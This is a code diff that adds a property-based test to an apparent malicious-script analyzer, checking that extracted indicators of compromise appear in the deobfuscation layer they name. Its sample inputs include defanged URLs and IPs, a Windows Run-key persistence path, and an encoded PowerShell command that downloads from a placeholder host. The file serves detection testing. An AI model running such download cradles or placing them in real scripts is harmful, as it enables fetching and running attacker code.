@@ -187,3 +187,31 @@ def test_an_analyzer_without_rules_or_peelers_still_answers() -> None:
     response = bare(AnalyzeScriptRequest(content=CRADLE), deadline=time.monotonic() + 5)
     assert response.behaviors == ()
     assert any(ioc.type.value == "url" for ioc in response.iocs)
+
+
+_IOC_PIECES = [
+    "http://198.51.100.4/a",
+    "hxxps://evil[.]example[.]net/x",
+    "203.0.113[.]9",
+    "user@example.org",
+    "C:\\Users\\Public\\a.exe",
+    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+    "d41d8cd98f00b204e9800998ecf8427e",
+    "2001:db8::7",
+    "powershell -enc " + encoded("iwr http://192.0.2.10/p"),
+    "fso.GetFile",
+    "a.b.c",
+]
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.sampled_from(_IOC_PIECES), min_size=1, max_size=6), st.text(max_size=30))
+def test_every_indicator_occurs_in_the_layer_it_names(pieces: list[str], noise: str) -> None:
+    from wingman.core.scripts.iocs import refang
+
+    response = analyze(noise + " " + " ; ".join(pieces))
+    for ioc in response.iocs:
+        layer = response.deobfuscation_layers[ioc.layer].content
+        assert ioc.value.lower() in refang(layer).lower(), (ioc, layer)
+        line = refang(layer.split("\n")[ioc.line - 1]).lower()
+        assert ioc.value.lower() in line
